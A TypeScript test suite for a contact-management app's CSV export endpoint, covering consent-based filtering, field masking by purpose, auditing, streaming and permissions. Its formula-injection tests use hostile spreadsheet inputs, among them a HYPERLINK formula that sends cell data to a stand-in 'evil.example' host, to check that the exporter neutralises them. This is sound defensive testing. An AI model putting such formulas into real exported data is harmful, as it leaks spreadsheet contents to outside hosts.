import { randomUUID } from 'node:crypto';
import type { Readable } from 'node:stream';
import type { Contact, Problem } from '@custodian/contracts';
import { parse } from 'csv-parse/sync';
import { inArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { permissionsOf, type RequestContext } from '../../platform/access.js';
import { indexerFor } from '../../platform/crypto/blind-index.js';
import { queryRows } from '../../platform/db/database.js';
import { giveConsent, publishTestNotice, recordEvent } from '../../test/consent.js';
import { type Caller, createTestContext, type TestContext, type TestUser } from '../../test/context.js';
import { processingGuard } from '../consents/index.js';
import { subjectKeysFor } from '../subjects/index.js';
import { createContact } from './create-contact.js';
import type { ContactDeps } from './deps.js';
import { contactCsvColumns, exportContacts, neutraliseFormula } from './export-contacts.js';
import { contacts } from './schema.js';

let t: TestContext;
let deps: ContactDeps & { guard: typeof processingGuard };
let adminUser: TestUser;
let admin: Caller;
let marketing: Caller;
let sales: Caller;
let support: Caller;
let readonly: Caller;
beforeAll(async () => {
  t = await createTestContext();
  deps = {
    db: t.database.db,
    keys: t.keys,
    subjects: subjectKeysFor(t.keys),
    indexer: indexerFor(t.keys),
    guard: processingGuard,
  };
  adminUser = await t.createUser('admin');
  admin = await t.login(adminUser);
  marketing = await t.login(await t.createUser('marketing'));
  sales = await t.login(await t.createUser('sales'));
  support = await t.login(await t.createUser('support'));
  readonly = await t.login(await t.createUser('readonly'));
});
afterAll(() => t.close());

let n = 0;
const unique = (label: string) => `${label}${++n}${randomUUID().slice(0, 6)}`;

async function create(body: Record<string, unknown>): Promise<Contact> {
  const res = await t.request({ method: 'POST', url: '/api/v1/contacts', as: admin, body });
  if (res.statusCode !== 201) throw new Error(`create failed: ${res.statusCode} ${res.body}`);
  return res.json<Contact>();
}

type Row = Record<(typeof contactCsvColumns)[number], string>;
const parseCsv = (csv: string): Row[] => parse(csv, { columns: true }) as Row[];

/** The CSV row a contact of the JSON API should become (an independent statement of the mapping). */
function expectedRow(c: Contact): Row {
  const ordered = (l: Contact['emails']) => [...l.filter((e) => e.primary), ...l.filter((e) => !e.primary)];
  const emails = ordered(c.emails).map((e) => e.value);
  const phones = ordered(c.phones).map((e) => e.value);
  const a = c.addresses[0];
  return {
    id: c.id,
    firstName: c.firstName ?? '',
    lastName: c.lastName ?? '',
    email: emails[0] ?? '',
    otherEmails: emails.slice(1).join('; '),
    phone: phones[0] ?? '',
    otherPhones: phones.slice(1).join('; '),
    street: a?.street ?? '',
    postalCode: a?.postalCode ?? '',
    city: a?.city ?? '',
    region: a?.region ?? '',
    country: a?.country ?? '',
    jobTitle: c.jobTitle ?? '',
    dateOfBirth: c.dateOfBirth ?? '',
    isChild: c.isChild === null ? '' : String(c.isChild),
    ownerId: c.ownerId ?? '',
    source: c.source,
    lifecycleStage: c.lifecycleStage,
    tags: c.tags.join('; '),
    lastActivityAt: c.lastActivityAt ?? '',
    createdAt: c.createdAt,
    updatedAt: c.updatedAt,
  };
}

const exportUrl = (query: string) => `/api/v1/exports?entity=contacts&${query}`;

async function exportAs(as: Caller, query: string, headers: Record<string, string> = {}) {
  const res = await t.request({ url: exportUrl(query), as, headers });
  expect(res.statusCode).toBe(200);
  return { res, rows: parseCsv(res.body) };
}

async function listAs(as: Caller, query: string, headers: Record<string, string> = {}): Promise<Contact[]> {
  const res = await t.request({ url: `/api/v1/contacts?sort=createdAt&limit=200&${query}`, as, headers });
  expect(res.statusCode).toBe(200);
  return res.json<{ items: Contact[] }>().items;
}

async function readAll(stream: Readable): Promise<string> {
  let out = '';
  for await (const chunk of stream) out += chunk.toString();
  return out;
}

describe('CSV export of contacts', () => {
  const tag = unique('exporttag');
  beforeAll(async () => {
    await create({
      firstName: 'Grace',
      lastName: 'Hopper',
      emails: [
        { value: `${tag}.grace@example.test` },
        { value: `${tag}.work@example.test`, primary: true },
        { value: `${tag}.old@example.test` },
      ],
      phones: [{ value: '+1 202 555 0143' }, { value: '+44 20 7946 0958', label: 'office' }],
      addresses: [
        { street: '1 Navy Way', postalCode: '20001', city: 'Washington', region: 'DC', country: 'US' },
        { city: 'Arlington', country: 'US' },
      ],
      jobTitle: 'Rear Admiral',
      dateOfBirth: '1906-12-09',
      ownerId: adminUser.id,
      lifecycleStage: 'customer',
      tags: [tag, 'navy'],
    });
    await create({ firstName: 'Solo', tags: [tag] });
    await create({
      lastName: 'Quote, "the" Person',
      emails: [{ value: `${tag}.q@example.test` }],
      tags: [tag],
    });
    // Marketing e-mail rests on consent: the guard lets marketing export only people who gave it.
    const notice = await publishTestNotice(t, admin, { key: unique('exportnotice') });
    for (const c of await listAs(admin, `tag=${tag}`))
      await giveConsent(t, admin, c.id, 'marketing_email', notice);
  });

  it('answers a CSV download with the columns, in creation order', async () => {
    const { res, rows } = await exportAs(admin, `tag=${tag}`);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.body.split('\r\n')[0]).toBe(contactCsvColumns.join(','));
    expect(rows).toHaveLength(3);
  });

  it('holds what the list endpoint shows the same caller, masking included', async () => {
    const callers: [string, Caller, Record<string, string>][] = [
      ['admin', admin, {}],
      ['sales', sales, {}],
      // Marketing e-mail may use e-mails but not phones.
      ['marketing', marketing, {}],
      // Analytics may use no name, e-mail or phone.
      ['admin under analytics', admin, { 'x-purpose': 'analytics' }],
    ];
    for (const [, as, headers] of callers) {
      const { rows } = await exportAs(as, `tag=${tag}`, headers);
      const listed = await listAs(as, `tag=${tag}`, headers);
      expect(rows).toEqual(listed.map(expectedRow));
    }
    const grace = (await exportAs(admin, `tag=${tag}`)).rows[0]!;
    expect(grace).toMatchObject({
      email: `${tag}.work@example.test`.toLowerCase(),
      otherEmails: `${tag}.grace@example.test; ${tag}.old@example.test`.toLowerCase(),
      phone: '+12025550143',
      otherPhones: '+442079460958',
      street: '1 Navy Way',
      city: 'Washington',
      country: 'US',
      // Sales follow-up, the admin's default purpose, may not use the date of birth.
      dateOfBirth: '[restricted]',
      tags: `${tag}; navy`,
    });
    const asMarketing = (await exportAs(marketing, `tag=${tag}`)).rows[0]!;
    expect(asMarketing.email).toBe(grace.email);
    expect(asMarketing.phone).toBe('[restricted]');
    expect(asMarketing.otherPhones).toBe('[restricted]');
    const analytics = (await exportAs(admin, `tag=${tag}`, { 'x-purpose': 'analytics' })).rows[0]!;
    expect(analytics).toMatchObject({ firstName: '[restricted]', email: '[restricted]' });
    expect(JSON.stringify(analytics)).not.toContain('Grace');
    expect(JSON.stringify(analytics)).not.toContain('example.test');
  });

  it('leaves out people the processing guard refuses for the request’s purpose', async () => {
    const other = unique('guardtag');
    const notice = await publishTestNotice(t, admin, { key: unique('guardnotice') });
    const consenting = await create({ firstName: 'Consenting', tags: [other] });
    await create({ firstName: 'Silent', tags: [other] });
    const objecting = await create({ firstName: 'Objecting', tags: [other] });
    await giveConsent(t, admin, consenting.id, 'marketing_email', notice);
    await giveConsent(t, admin, objecting.id, 'marketing_email', notice);
    await recordEvent(t, admin, objecting.id, {
      kind: 'objected',
      purpose: 'marketing_email',
      method: 'verbal',
    });
    await recordEvent(t, admin, objecting.id, {
      kind: 'objected',
      purpose: 'sales_follow_up',
      method: 'verbal',
    });
    const names = async (as: Caller) => (await exportAs(as, `tag=${other}`)).rows.map((r) => r.firstName);
    expect(await names(marketing)).toEqual(['Consenting']);
    expect(await names(sales)).toEqual(['Consenting', 'Silent']);
  });

  it('filters like the list endpoint; an unknown tag gives the header alone', async () => {
    const customers = (await exportAs(admin, `tag=${tag}&lifecycleStage=customer`)).rows;
    expect(customers.map((r) => r.firstName)).toEqual(['Grace']);
    const owned = (await exportAs(admin, `tag=${tag}&ownerId=${adminUser.id}`)).rows;
    expect(owned.map((r) => r.firstName)).toEqual(['Grace']);
    const none = await exportAs(admin, `tag=${unique('nosuchtag')}`);
    expect(none.rows).toEqual([]);
    expect(none.res.body).toBe(`${contactCsvColumns.join(',')}\r\n`);
  });

  it('streams over a real connection, chunked, with nothing buffered into a length', async () => {
    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
    const res = await fetch(`${address}${exportUrl(`tag=${tag}`)}`, {
      headers: { cookie: admin.cookie! },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('content-length')).toBeNull();
    const rows = parseCsv(await res.text());
    expect(rows).toEqual((await exportAs(admin, `tag=${tag}`)).rows);
  });

  it('audits each export under the request’s purpose with the subjects it holds', async () => {
    const { res } = await exportAs(marketing, `tag=${tag}`);
    const entries = await queryRows<{ action: string; purpose: string; subject_ids: string[] }>(
      t.database.db,
      sql`select action, purpose, subject_ids from audit_entries where request_id = ${res.headers['x-request-id']}`,
    );
    const subjects = await queryRows<{ subject_id: string }>(
      t.database.db,
      sql`select c.subject_id from contacts c join contact_tags ct on ct.contact_id = c.id join tags g on g.id = ct.tag_id where g.name = ${tag}`,
    );
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({ action: 'contact.export', purpose: 'marketing_email' });
    expect([...entries[0]!.subject_ids].sort()).toEqual(subjects.map((s) => s.subject_id).sort());
  });
});

describe('formula injection', () => {
  it('prefixes cells a spreadsheet would evaluate, but not phone numbers', async () => {
    const tag = unique('formulatag');
    await create({
      firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      lastName: '+SUM(1,2)',
      jobTitle: '@cmd',
      phones: [{ value: '+49 30 1234567' }, { value: '+44 20 7946 0958' }],
      addresses: [{ street: '-2+3 Main St', city: 'Plain' }],
      tags: [tag, '=evil()'],
    });
    const [row] = (await exportAs(admin, `tag=${tag}`)).rows;
    expect(row).toMatchObject({
      firstName: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      lastName: "'+SUM(1,2)",
      jobTitle: "'@cmd",
      street: "'-2+3 Main St",
      city: 'Plain',
      phone: '+49301234567',
      otherPhones: '+442079460958',
      tags: `'=evil(); ${tag}`,
    });
  });

  it('applies the rule to every leading character it names', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutraliseFormula(`${lead}1+1`)).toBe(`'${lead}1+1`);
    expect(neutraliseFormula('+4930123456')).toBe('+4930123456');
    expect(neutraliseFormula('+4930123456; +442079460958')).toBe('+4930123456; +442079460958');
    expect(neutraliseFormula('+49301234567+cmd')).toBe("'+49301234567+cmd");
    expect(neutraliseFormula('plain = text')).toBe('plain = text');
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('paging through the table', () => {
  const tag = unique('pagedtag');
  const created: Contact[] = [];
  const ctx = (): RequestContext => ({
    actor: {
      kind: 'user',
      userId: adminUser.id,
      role: 'admin',
      permissions: permissionsOf('admin'),
      sessionId: randomUUID(),
    },
    requestId: randomUUID(),
    purpose: 'sales_follow_up',
  });
  beforeAll(async () => {
    for (let i = 0; i < 30; i++)
      created.push(
        await createContact({
          ...deps,
          ctx: ctx(),
          input: { firstName: `Paged${i}`, emails: [{ value: `${tag}.${i}@example.test` }], tags: [tag] },
        }),
      );
  });

  const auditOf = (requestId: string) =>
    queryRows<{ action: string; purpose: string; subject_ids: string[] }>(
      t.database.db,
      sql`select action, purpose, subject_ids from audit_entries where request_id = ${requestId} order by id`,
    );
  const subjectsOf = async (ids: string[]) => {
    const rows = await t.database.db
      .select({ id: contacts.id, subjectId: contacts.subjectId })
      .from(contacts)
      .where(inArray(contacts.id, ids));
    return ids.map((id) => rows.find((r) => r.id === id)!.subjectId);
  };

  it('reads page after page, each audited on its own with that page’s subjects', async () => {
    const context = ctx();
    const stream = await exportContacts({ ...deps, ctx: context, filters: { tag }, pageSize: 7 });
    const rows = parseCsv(await readAll(stream));
    expect(rows.map((r) => r.id)).toEqual(created.map((c) => c.id));
    expect(rows.map((r) => r.email)).toEqual(created.map((c) => c.emails[0]!.value));

    const entries = await auditOf(context.requestId!);
    expect(entries.map((e) => e.subject_ids.length)).toEqual([7, 7, 7, 7, 2]);
    expect(entries.every((e) => e.action === 'contact.export' && e.purpose === 'sales_follow_up')).toBe(true);
    const subjects = await subjectsOf(created.map((c) => c.id));
    entries.forEach((e, page) => {
      expect(e.subject_ids).toEqual(subjects.slice(page * 7, page * 7 + 7));
    });
  });

  it('reads no empty page after a full last one', async () => {
    const context = ctx();
    const stream = await exportContacts({ ...deps, ctx: context, filters: { tag }, pageSize: 10 });
    expect(parseCsv(await readAll(stream))).toHaveLength(30);
    expect((await auditOf(context.requestId!)).map((e) => e.subject_ids.length)).toEqual([10, 10, 10]);
  });

  it('refuses a caller without the export permission before any stream exists', async () => {
    const context: RequestContext = {
      ...ctx(),
      actor: {
        kind: 'user',
        userId: adminUser.id,
        role: 'support',
        permissions: permissionsOf('support'),
        sessionId: randomUUID(),
      },
    };
    await expect(exportContacts({ ...deps, ctx: context, filters: {} })).rejects.toMatchObject({
      code: 'forbidden',
    });
  });
});

describe('access', () => {
  it('refuses anyone not signed in, and roles without the export permission', async () => {
    const anonymous = await t.request({ url: exportUrl('') });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.headers['content-type']).toContain('application/problem+json');
    for (const as of [support, readonly]) {
      const res = await t.request({ url: exportUrl(''), as });
      expect(res.statusCode).toBe(403);
      expect(res.json<Problem>().code).toBe('forbidden');
    }
  });

  it('answers bad filters with problem+json naming the field', async () => {
    const cases: [string, string][] = [
      ['/api/v1/exports', 'querystring.entity'],
      ['/api/v1/exports?entity=companies', 'querystring.entity'],
      [exportUrl('ownerId=me'), 'querystring.ownerId'],
      [exportUrl('lifecycleStage=whale'), 'querystring.lifecycleStage'],
    ];
    for (const [url, field] of cases) {
      const res = await t.request({ url, as: admin });
      expect(res.statusCode).toBe(400);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.json<Problem>().errors?.map((e) => e.field)).toContain(field);
    }
  });

  it('documents the answer as text/csv', async () => {
    const doc = (await t.request({ url: '/api/v1/openapi.json' })).json<{
      paths: Record<string, { get: { responses: Record<string, { content?: Record<string, unknown> }> } }>;
    }>();
    expect(Object.keys(doc.paths['/api/v1/exports']?.get.responses['200']?.content ?? {})).toEqual([
      'text/csv',
    ]);
  });
});
